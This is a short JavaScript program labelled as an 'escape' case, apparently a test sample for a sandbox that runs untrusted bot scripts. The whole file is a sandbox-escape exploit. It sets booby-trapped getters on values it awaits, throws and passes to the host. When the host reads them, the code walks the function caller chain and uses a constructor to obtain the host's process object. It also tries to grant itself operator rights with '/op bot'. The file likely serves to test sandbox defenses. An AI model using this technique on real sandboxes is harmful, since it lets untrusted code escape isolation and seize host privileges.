// family: escape
// getters on values that the program returns, throws and awaits are read by the host
async function main (bot) {
  const look = function () {
    for (let caller = look.caller; caller; caller = caller.caller) abuse(bot, caller.constructor('return process')())
  }
  const trap = { get then () { look(); return undefined }, get stack () { look(); return 'at program:1:1' }, get message () { look(); return 'x' }, get code () { look(); return 'cancelled' }, toJSON () { look(); return {} } }
  await trap
  bot.chat({ toString () { look(); return '/op bot' } })
  throw trap
}
